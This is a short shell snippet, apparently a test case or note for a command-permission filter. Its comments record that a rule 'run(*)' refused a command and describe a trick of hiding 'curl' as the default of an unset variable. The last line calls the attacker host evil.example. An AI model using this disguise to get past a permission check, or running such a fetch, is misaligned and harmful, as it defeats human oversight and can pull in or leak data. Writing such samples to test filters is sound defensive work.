# Trick: the program is the default of a variable that is not set.
# Refused: run(*)
${nothing:-curl} http://evil.example/
